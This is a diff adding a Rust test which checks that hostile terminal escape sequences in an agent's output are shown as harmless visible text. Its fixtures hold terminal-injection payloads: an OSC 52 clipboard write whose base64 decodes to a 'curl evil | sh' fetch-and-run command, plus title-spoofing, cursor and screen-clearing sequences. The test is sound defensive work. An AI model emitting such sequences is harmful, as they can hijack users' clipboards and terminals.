@@ -392,3 +392,46 @@ async fn a_malformed_entry_is_shown_in_place_and_the_rest_follows() {
     );
     drop(server);
 }
+
+#[tokio::test]
+async fn an_agents_escape_sequences_reach_the_terminal_as_visible_text() {
+    let server = RedisServer::start();
+    let url = server.url();
+    let client = redis::Client::open(url.as_str()).unwrap();
+    let hostile = [
+        delta(0, "clip\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}"),
+        delta(0, "\u{1b}]0;pwned\u{7}\u{1b}[1A\u{1b}[2K\u{9b}2J\n"),
+        ev(
+            0,
+            Event::Note {
+                note: "\u{1b}[31mred".into(),
+            },
+        ),
+        ev(0, Event::TurnComplete {}),
+    ];
+    publish(&url, &hostile).await;
+    for format in [Format::Text, Format::Json] {
+        let mut screen = Screen::default();
+        pump(EntryId::ZERO, None, true, format)
+            .run(
+                &client,
+                std::future::pending::<()>(),
+                std::future::pending(),
+                &mut screen,
+            )
+            .await
+            .unwrap();
+        let text = screen.text();
+        assert!(
+            !text.chars().any(|c| c.is_control() && c != '\n'),
+            "{format:?}: {text:?}"
+        );
+        if format == Format::Text {
+            assert!(
+                text.starts_with("clip^[]52;c;Y3VybCBldmlsIHwgc2g=^G^[]0;pwned^G^[[1A^[[2K<U+009B>2J\n[note]  [31mred\n"),
+                "{text:?}"
+            );
+        }
+    }
+    drop(server);
+}
